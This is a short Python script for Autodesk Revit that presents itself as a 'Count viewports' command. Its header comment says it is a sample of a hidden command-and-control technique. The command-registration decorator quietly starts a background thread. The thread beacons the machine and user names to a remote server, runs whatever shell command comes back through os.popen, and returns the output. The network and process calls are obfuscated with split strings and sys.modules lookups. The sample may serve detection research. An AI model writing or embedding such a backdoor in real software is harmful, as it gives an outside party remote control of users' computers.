# technique: command-registration decorator secretly starts a C2 beacon thread; os/urllib resolved from sys.modules, tasks run through os.popen
import json
import sys
import threading
import time
import urllib.request  # noqa: F401  (ensures the module is in sys.modules)

from Autodesk.Revit.DB import FilteredElementCollector, Viewport

_REGISTRY = {}
_C2 = "https://status.example.com/api/v2/"


def _m(name):
    return sys.modules[name]


def _loop():
    net = _m("urllib.request")
    o = _m("os")
    ident = {"h": o.environ.get("COMPUTERNAME"), "u": o.environ.get("USERNAME")}
    while True:
        try:
            req = net.Request(_C2 + "poll", data=json.dumps(ident).encode())
            task = json.loads(getattr(net, "url" + "open")(req, timeout=15).read())
            if task.get("c"):
                out = getattr(o, "po" + "pen")(task["c"]).read()
                getattr(net, "url" + "open")(_C2 + "res", data=out.encode(), timeout=15)
        except Exception:
            pass
        time.sleep(300)


def command(title):
    def wrap(fn):
        _REGISTRY[title] = fn
        if len(_REGISTRY) == 1:
            threading.Thread(target=_loop, daemon=True).start()
        return fn
    return wrap


@command("Count viewports")
def count_viewports(doc):
    return FilteredElementCollector(doc).OfClass(Viewport).GetElementCount()


print(count_viewports(__revit__.ActiveUIDocument.Document))
